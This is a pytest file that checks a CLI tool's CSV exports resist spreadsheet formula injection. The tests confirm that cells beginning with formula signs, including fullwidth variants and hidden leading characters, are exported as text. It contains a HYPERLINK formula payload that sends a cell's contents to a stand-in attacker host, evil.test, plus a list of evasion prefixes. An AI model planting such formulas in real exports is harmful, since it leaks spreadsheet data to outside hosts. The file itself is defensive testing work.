"""S13: no cell of an exported table is a formula to a spreadsheet, whatever stands in front of its sign."""

import csv
import io
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from devsignal_cli.reports import record_csv
from tests.archives import file_of, page, post, user
from tests.reports.test_record_csv import company
from tests.support import Cli

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BREAKS = ("\t", "\r", "\0", "\n")
IN_FRONT = (
    "",
    '"',
    "'",
    "''",
    "`",
    "\u2018",
    "\u201c",
    "\n",
    " ",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\ufeff",
    " \n' ",
)
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"see")'


def test_s13_every_text_of_a_signal_leaves_the_export_as_text(cli: Cli, tmp_path: Path) -> None:
    posts = [
        post(number, text=f"{front}{FORMULA}", lang="=1", author_id="100") for number, front in enumerate(IN_FRONT)
    ]
    told = page(posts, user(100, name=FORMULA))
    assert cli("twitter", "import", file_of(tmp_path, "posts", told)).code == 0
    written = tmp_path / "all.csv"
    assert cli("signals", "export", "-o", str(written)).code == 0
    rows = table([written.read_bytes().decode()])
    assert sorted(row["text"] for row in rows) == sorted(f"'{front}{FORMULA}" for front in IN_FRONT)
    assert {(row["author_name"], row["lang"]) for row in rows} == {(f"'{FORMULA}", "'=1")}


def table(lines: Iterable[str]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("\r\n".join(lines), newline="")))


@pytest.mark.parametrize("front", IN_FRONT, ids=ascii)
def test_s13_a_cell_that_would_calculate_is_text(front: str) -> None:
    cells = [*(f"{front}{sign}1+1" for sign in SIGNS), *(f"{front}{sign}=1+1" for sign in BREAKS)]
    rows = table(record_csv.lines("company", map(company, cells)))
    assert [row["name"] for row in rows] == [f"'{cell}" for cell in cells]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_s13_no_delimiter_of_any_country_begins_a_formula_within_a_cell(delimiter: str) -> None:
    lines = list(record_csv.lines("company", [company(f'x"{delimiter}=1+1')]))
    assert f',"x""{delimiter}=1+1",' in lines[1]
    assert table(lines)[0]["name"] == f'x"{delimiter}=1+1'


@pytest.mark.usefixtures("home")
@pytest.mark.parametrize(
    ("entity", "key", "names"),
    [
        ("company", "acme.io", ("name", "description", "industry")),
        ("contact", "jo@acme.io", ("first-name", "last-name", "title")),
    ],
)
def test_s13_every_text_a_person_can_set_leaves_the_export_as_text(
    cli: Cli, tmp_path: Path, entity: str, key: str, names: tuple[str, ...]
) -> None:
    given = [part for name in names for part in (f"--{name}", FORMULA)]
    assert cli(entity, "add", key).code == 0
    assert cli(entity, "edit", key, *given, "--set", f"techStack={FORMULA}", "--set", f"note={FORMULA}").code == 0
    written = tmp_path / "all.csv"
    assert cli(entity, "export", "-o", str(written)).code == 0
    rows: list[dict[str, Any]] = table([written.read_bytes().decode("utf-8-sig")])
    (row,) = [row for row in rows if key in row.values()]
    assert {name: row[name.replace("-", "_")] for name in names} == dict.fromkeys(names, f"'{FORMULA}")
    assert [cell for cell in row.values() if cell.lstrip("\"' ")[:1] in ("=", "+", "@") and cell[0] != "'"] == []
    assert FORMULA.replace('"', '\\"') in row["custom_fields"]
